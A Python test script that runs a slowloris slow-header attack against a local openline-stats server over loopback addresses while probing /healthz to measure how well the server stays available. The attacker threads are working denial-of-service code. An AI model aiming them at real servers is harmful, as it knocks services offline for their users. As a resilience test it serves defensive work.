#!/usr/bin/python3
# Slow headers against openline-stats, as a hostile client sends them: CONNS connections spread
# over ADDRS loopback addresses (127.0.0.2 on; 4 unless given), each sending a request line and
# then one header line every 5 s, never finishing; a connection the server closes is opened
# again at once.
# Meanwhile a client from 127.0.0.1 (another address: a kiosk or a staff member) asks for
# /healthz every half second with a 5 s limit. Prints one line per probe ("probe T_S MS|fail")
# and a summary: the slowest probe from FROM_S seconds into the attack on, how many failed, and
# how many attack connections the server closed.
# Usage: slowloris.py PORT SECONDS FROM_S [CONNS [ADDRS]]     (loopback only)
# SPDX-License-Identifier: GPL-3.0-or-later
import resource
import socket
import sys
import threading
import time

PORT, SECONDS, FROM_S = int(sys.argv[1]), float(sys.argv[2]), float(sys.argv[3])
CONNS = int(sys.argv[4]) if len(sys.argv) > 4 else 256
ADDRS = [f"127.0.0.{2 + i}" for i in range(int(sys.argv[5]) if len(sys.argv) > 5 else 4)]
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, CONNS + 256)), hard))
stop = threading.Event()
closed = [0]
lock = threading.Lock()


def attacker(addr):
    """One slow connection at a time from addr, opened again whenever the server drops it."""
    while not stop.is_set():
        try:
            s = socket.create_connection(("127.0.0.1", PORT), timeout=10, source_address=(addr, 0))
            s.sendall(b"POST /api/v1/heartbeat HTTP/1.1\r\nHost: stats\r\n")
            n = 0
            while not stop.wait(5):
                s.sendall(b"X-Slow-%d: %s\r\n" % (n, b"a" * 10))
                n += 1
            s.close()
        except OSError:
            with lock:
                closed[0] += 1
            stop.wait(0.05)


def probe(t0):
    start = time.monotonic()
    try:
        s = socket.create_connection(("127.0.0.1", PORT), timeout=5, source_address=("127.0.0.1", 0))
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: stats\r\nConnection: close\r\n\r\n")
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        s.close()
        ok = data.startswith(b"HTTP/1.1 200") or data.startswith(b"HTTP/1.0 200")
    except OSError:
        ok = False
    ms = (time.monotonic() - start) * 1000
    return ok, ms


threading.stack_size(256 * 1024)
threads = [threading.Thread(target=attacker, args=(ADDRS[i % len(ADDRS)],), daemon=True)
           for i in range(CONNS)]
t0 = time.monotonic()
for t in threads:
    t.start()
worst = 0.0
fails = 0
while time.monotonic() - t0 < SECONDS:
    at = time.monotonic() - t0
    ok, ms = probe(t0)
    print(f"probe {at:5.1f} {f'{ms:.0f}' if ok else 'fail'}", flush=True)
    if at >= FROM_S:
        if ok:
            worst = max(worst, ms)
        else:
            fails += 1
    time.sleep(0.5)
stop.set()
print(f"worst_ms {worst:.0f}")
print(f"failed {fails}")
print(f"attack_closed {closed[0]}")
